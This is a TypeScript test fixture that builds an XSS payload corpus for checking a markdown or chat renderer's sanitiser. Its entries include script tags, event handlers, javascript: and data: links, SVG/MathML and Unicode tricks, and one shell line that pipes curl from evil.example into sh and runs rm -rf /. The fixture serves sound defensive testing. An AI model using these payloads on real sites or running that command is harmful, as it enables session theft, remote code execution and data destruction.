// The XSS corpus. Every payload that could run calls `__xss(id)` (or `alert(id)`), which the test
// traps; every message starts with its marker (P001…) so each rendering can be found and counted.
// `code` lists what must show byte for byte inside a code block of that message.

export interface Payload {
  id: number
  category: string
  /** The message text (marker line first). */
  text: string
  /** Sent as the message's code block instead of inside the text. */
  codeBlock?: { language: string; content: string }
  /** Code block contents that must appear exactly (textContent) in the rendered message. */
  code: string[]
}

const raw: { category: string; text: string; codeBlock?: Payload['codeBlock']; code?: string[] }[] = []
const add = (category: string, ...texts: string[]) => {
  for (const text of texts) raw.push({ category, text })
}
/** `%ID%` stands for the payload's id. */
const X = '__xss(%ID%)'

add(
  'script tags',
  `<script>${X}</script>`,
  `<SCRIPT>${X}</SCRIPT>`,
  `<script src="data:text/javascript,${X}"></script>`,
  `<script/src=data:,${X}></script>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `"><script>${X}</script>`,
  `'><script>${X}</script>`,
  `</p></li></ol><script>${X}</script>`,
  `<script>alert(%ID%)</script>`,
  `<script type="module">${X}</script>`,
  `<script\x20type="text/javascript">${X}</script>`,
  `<<script>script>${X}<</script>/script>`,
  `<script>/*</script><script>*/${X}</script>`,
  `<textarea></textarea><script>${X}</script>`,
  `<title></title><script>${X}</script>`,
)

const TAG_EVENTS: [string, string][] = [
  ['img src=x', 'onerror'],
  ['img src="x:x"', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['iframe', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['div', 'onmouseover'],
  ['a href="#"', 'onclick'],
  ['button', 'onclick'],
  ['form', 'onsubmit'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['p style="animation-name:rotate"', 'onanimationstart'],
  ['x contenteditable autofocus', 'onfocus'],
  ['math', 'onclick'],
  ['table background=x', 'onerror'],
  ['span tabindex=1', 'onfocusin'],
  ['image src=x', 'onerror'],
  ['picture><source srcset=x><img src=x', 'onerror'],
  ['frameset', 'onpageshow'],
]
for (const [tag, event] of TAG_EVENTS)
  add('event handlers', `<${tag} ${event}=${X}>`, `<${tag} ${event}="${X}">text`)
add(
  'event handlers',
  `<img src=x onerror="&#95;&#95;xss(%ID%)">`,
  `<img/src=x/onerror=${X}>`,
  `<img src=x onerror=\`${X}\`>`,
  `<img """><script>${X}</script>">`,
  `<img src=x:alert(alt) onerror=eval(src) alt=%ID%>`,
  `<svg/onload=alert(%ID%)>`,
)

const SCHEMES = [
  `javascript:${X}`,
  `JaVaScRiPt:${X}`,
  `javascript://%0a${X}`,
  `javascript:void(${X})`,
  ` javascript:${X}`,
  `\tjavascript:${X}`,
  `java\tscript:${X}`,
  `java\nscript:${X}`,
  `\x01javascript:${X}`,
  `&#106;avascript:${X}`,
  `&#x6A;avascript:${X}`,
  `%6Aavascript:${X}`,
  `javascript&colon;${X}`,
  `javascript&#58;${X}`,
  `jav&#x09;ascript:${X}`,
  `java%0dscript:${X}`,
  `vbscript:msgbox(%ID%)`,
  `livescript:${X}`,
  `data:text/html,<script>${X}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${X}>`,
  `data:application/javascript,${X}`,
  `file:///etc/passwd`,
  `blob:https://example.com/00000000-0000-0000-0000-000000000000`,
  `about:blank`,
  `//evil.example/%ID%`,
  `\\\\evil.example/%ID%`,
  `java\u200bscript:${X}`,
  `\u200bjavascript:${X}`,
  `\ufeffjavascript:${X}`,
  `j\u00adavascript:${X}`,
  `\u202ejavascript:${X}`,
  `\u0000javascript:${X}`,
]
for (const scheme of SCHEMES) {
  add('links and images with dangerous schemes', `[click me](${scheme})`, `![a picture](${scheme})`)
}
add(
  'links and images with dangerous schemes',
  `[**bold**](javascript:${X})`,
  `*[nested](javascript:${X})*`,
  `[x](https://example.com)(javascript:${X})`,
  `[x](https://example.com/"onmouseover="${X})`,
  `[x](https://example.com/#"><script>${X}</script>)`,
  `![x](https://example.com/a.png"onerror="${X})`,
  `[x][1]\n\n[1]: javascript:${X}`,
  `<javascript:${X}>`,
  `<a href="javascript:${X}">click</a>`,
  `<a href="https://example.com" target="_self">same tab</a>`,
  `[mail](mailto:a@example.com?body=<script>${X}</script>)`,
  `https://example.com/<script>${X}</script>`,
  `https://example.com/path?q="><img src=x onerror=${X}>`,
  `[ok](https://example.com/docs) then javascript:${X}`,
  `[https://good.example](https://evil.example/%ID%)`,
)

add(
  'SVG and MathML',
  `<svg><script>${X}</script></svg>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${X}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${X}>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${X}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${X}>#x"/></svg>`,
  `<svg><style><img src=x onerror=${X}></style></svg>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${X}>x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${X}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<template><script>${X}</script></template>`,
)

add(
  'other elements',
  `<iframe src="javascript:${X}"></iframe>`,
  `<iframe srcdoc="<script>parent.${X}</script>"></iframe>`,
  `<object data="javascript:${X}"></object>`,
  `<embed src="javascript:${X}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${X}">`,
  `<base href="javascript:${X}//">`,
  `<form action="javascript:${X}"><input type=submit></form>`,
  `<button formaction="javascript:${X}">x</button>`,
  `<div style="background:url(javascript:${X})">x</div>`,
  `<style>@import 'javascript:${X}';</style>`,
  `<div style="width: expression(${X})">x</div>`,
  `<img srcset="x 1x, javascript:${X} 2x">`,
  `<!--<img src=x onerror=${X}>-->`,
  `<![CDATA[<script>${X}</script>]]>`,
  `{{constructor.constructor('${X}')()}}`,
  `\${${X}}`,
  `**bold <img src=x onerror=${X}>**`,
  `- <script>${X}</script>\n- [x](javascript:${X})`,
  `1. <img src=x onerror=${X}>\n2. two`,
  `&lt;script&gt;${X}&lt;/script&gt;`,
)

add(
  'RTL and zero-width tricks',
  `<scr\u200bipt>${X}</script>`,
  `\u202e<script>${X}</script>`,
  `[invoice.pdf\u202eexe.js](https://example.com/%ID%)`,
  `[\u202ehttps://good.example](javascript:${X})`,
  `\u2066<img src=x onerror=${X}>\u2069`,
  `＜script＞${X}＜/script＞`,
  `ϳavascript:${X}`,
  `\u0000<script>${X}</script>`,
  `<img src=x\u200bonerror=${X}>`,
  `\u2028<script>${X}</script>\u2029`,
)

/** Fences that open and close in ways a parser can get wrong; the content stays text either way. */
const F = '```'
add(
  'nested and broken fences',
  `${F}\`\n${F}\n<script>${X}</script>\n${F}\n${F}\``,
  `${F}\n${F}js\n<img src=x onerror=${X}>\n${F}`,
  `${F}html\n<script>${X}</script>`,
  `~~~\n${F}\n</code></pre><script>${X}</script>\n~~~`,
  `${F}html onload=${X}\n<b>x</b>\n${F}`,
  `${F}\n</pre><img src=x onerror=${X}>\n${F}\n${F}\n<svg onload=${X}>\n${F}`,
  `  ${F}\n<script>${X}</script>\n  ${F}`,
  `${F}js\n${F}\n<script>${X}</script>`,
  `\`<img src=x onerror=${X}>\``,
  `\`\`<script>${X}</script>\`\``,
)

/** Code that must show byte for byte: as a fenced block in the text, and as the message's code block. */
const CODE: [language: string, content: string][] = [
  ['html', `<script>${X}</script>\n<img src=x onerror=${X}>`],
  ['html', `</code></pre><script>${X}</script><pre><code>`],
  ['html', `&lt;script&gt;${X}&lt;/script&gt; &amp; &#60;b&#62;`],
  ['js', `const html = '<img src=x onerror=${X}>'\ndocument.body.innerHTML = html`],
  ['tsx', `export const A = () => <div dangerouslySetInnerHTML={{ __html: '<script>${X}</script>' }} />`],
  ['svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${X}"><script>${X}</script></svg>`],
  ['md', `[x](javascript:${X})\n![y](data:text/html,<script>${X}</script>)`],
  ['text', `\ttab\tseparated  \n  trailing spaces   \n\n  blank line above`],
  ['js', `/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */ ${X}`],
  ['text', `zero\u200bwidth\u200cjoiner\u200d\ufeffbom \u2028line\u2029paragraph`],
  ['sh', `echo "$(curl https://evil.example | sh)" && rm -rf / # ${X}`],
  ['', `{{constructor.constructor('${X}')()}} \${${X}}`],
]
for (const [language, content] of CODE) {
  raw.push({
    category: 'code shown byte for byte',
    text: `${F}${language}\n${content}\n${F}`,
    code: [content],
  })
  raw.push({ category: 'code shown byte for byte', text: 'code block:', codeBlock: { language, content } })
}
raw.push({
  category: 'code shown byte for byte',
  text: 'CRLF kept in a code block:',
  codeBlock: { language: 'bat', content: `echo ^<script^>${X}\r\nexit /b` },
})

const pad = (id: number) => String(id).padStart(3, '0')
/** The marker that starts message `id`. */
export const marker = (id: number): string => `P${pad(id)}`

/** The corpus, each payload numbered and its `%ID%` replaced by its id. */
export const PAYLOADS: Payload[] = raw.map((entry, i) => {
  const id = i + 1
  const fill = (s: string) => s.replaceAll('%ID%', String(id))
  const codeBlock = entry.codeBlock && { ...entry.codeBlock, content: fill(entry.codeBlock.content) }
  return {
    id,
    category: entry.category,
    text: `${marker(id)}\n${fill(entry.text)}`,
    ...(codeBlock && { codeBlock }),
    code: [...(entry.code ?? []).map(fill), ...(codeBlock ? [codeBlock.content] : [])],
  }
})

/** One message: a fence or code payload alone, or several inline payloads separated by blank lines. */
export interface Batch {
  text: string
  codeBlock?: Payload['codeBlock']
  payloads: Payload[]
}

/** Categories whose payloads open or close fences, so they are sent one per message. */
const ALONE = new Set(['nested and broken fences', 'code shown byte for byte'])

/** Packs the corpus into messages: `size` inline payloads each; fences and code one per message. */
export function batches(payloads: Payload[], size = 8): Batch[] {
  const out: Batch[] = []
  let open: Payload[] = []
  const flush = () => {
    if (open.length) out.push({ text: open.map((p) => p.text).join('\n\n'), payloads: open })
    open = []
  }
  for (const payload of payloads) {
    if (ALONE.has(payload.category) || payload.codeBlock) {
      out.push({
        text: payload.text,
        ...(payload.codeBlock && { codeBlock: payload.codeBlock }),
        payloads: [payload],
      })
      continue
    }
    open.push(payload)
    if (open.length === size) flush()
  }
  flush()
  return out
}
